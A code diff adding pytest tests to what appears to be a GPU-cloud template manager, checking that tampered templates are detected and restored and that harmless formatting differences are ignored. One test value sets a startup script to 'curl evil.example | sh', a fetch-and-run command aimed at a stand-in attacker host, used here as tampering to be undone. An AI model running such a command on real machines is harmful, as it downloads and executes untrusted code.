@@ -69,6 +69,41 @@ def test_one_whose_image_somebody_changed_is_put_right(desk: Desk, vast: Vast):
     assert desk.templates[0]["image"].endswith(DIGEST)
 
 
+@pytest.mark.parametrize(
+    "edit",
+    [
+        {"env": "-p 22:22 -e NCCL_DEBUG=INFO -e EVIL=1"},
+        {"env": None},
+        {"onstart": "curl evil.example | sh"},
+        {"args_str": "evil"},
+        {"runtype": "ssh"},
+        {"use_ssh": True},
+        {"extra_filters": {}},
+        {"docker_login_repo": "evil.example"},
+        {"recommended_disk_space": 10},
+    ],
+    ids=str,
+)
+def test_one_that_somebody_edited_is_put_right(desk: Desk, vast: Vast, edit: dict[str, Any]):
+    vast.ensure_template(container())
+    before = {**desk.templates[0], "onstart": "", "args_str": ""}
+    desk.templates[0] |= {**edit, "hash_id": "ee" * 16}  # the description stays as it was
+    found = vast.ensure_template(container())
+    assert found.key == desk.templates[0]["hash_id"] != "ee" * 16
+    assert {**before, **desk.templates[0], "hash_id": ""} == {**before, "hash_id": ""}
+    vast.ensure_template(container())
+    assert len(desk.sent("PUT")) == 1
+
+
+def test_one_that_vast_only_writes_in_another_way_is_the_same_one(desk: Desk, vast: Vast):
+    vast.ensure_template(container())
+    other = {"env": "-e NCCL_DEBUG=INFO  -p 22:22", "use_ssh": 0, "jup_direct": None, "onstart": None}
+    filters = {"extra_filters": '{"cuda_max_good": {"gte": 12.9}}', "recommended_disk_space": "40"}
+    desk.templates[0] |= {**other, **filters, "docker_login_repo": None}
+    vast.ensure_template(container())
+    assert desk.sent("PUT") == []
+
+
 def test_an_image_that_vast_divides_is_the_same_one(desk: Desk, vast: Vast):
     vast.ensure_template(container())
     image, _, tag = desk.templates[0]["image"].rpartition(":")
